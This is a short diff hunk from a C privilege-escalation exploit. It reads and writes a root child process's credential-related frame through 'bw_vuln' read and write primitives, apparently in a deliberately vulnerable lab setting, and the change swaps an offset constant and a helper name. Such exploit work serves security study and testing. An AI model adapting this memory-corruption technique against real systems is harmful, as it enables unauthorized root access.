@@ -37,11 +37,11 @@ int main(void)
 
 	/* what the frame says of the pool's page that the child's credentials are in */
 	frame = leak.credential + (uint64_t)((int64_t)(child - getpid()) * CREDENTIAL_BYTES);
-	frame = attack_frame(&leak, frame);
+	frame = attack_frame_link(&leak, frame);
 	before = (uint64_t)bw_vuln_read(frame);
 	attack_say("root's program %d is about to drop its rights; its frame says 0x%lx", child,
 		   before);
-	attack_check("vuln_write", bw_vuln_write(frame, before + (1ul << 32)));
+	attack_check("vuln_write", bw_vuln_write(frame, before + FRAME_LINK_PREV));
 	from = bw_ipc_reply_receive(endpoint, &message);
 	attack_check("vuln_write", bw_vuln_write(frame, before));
 	if (from < 0) {
